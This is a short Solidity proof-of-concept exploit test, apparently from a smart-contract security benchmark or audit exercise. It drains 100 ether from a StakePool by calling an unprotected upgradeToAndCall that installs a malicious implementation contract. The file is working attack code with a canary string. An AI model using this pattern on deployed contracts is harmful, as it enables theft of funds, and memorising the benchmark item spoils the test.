// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3f1c9a52-6be0-4d77-8a14-c95e20b7d6fa
import "../Base.sol";

contract Code {
    bytes32 public constant proxiableUUID = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;

    function take(address payable to) external {
        to.transfer(100 ether);
    }
}

contract Attacker {
    function run(StakePool pool) external {
        try pool.upgradeToAndCall(address(new Code()), abi.encodeCall(Code.take, (payable(address(this))))) {} catch {}
    }

    receive() external payable {}
}

contract Proof is Base {
    Attacker private other;

    function _start() internal override {
        other = new Attacker();
    }

    function exploit() public {
        other.run(pool);
    }

    function test_Exploit() public {
        exploit();
        require(address(other).balance >= 100 ether, "no gain");
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
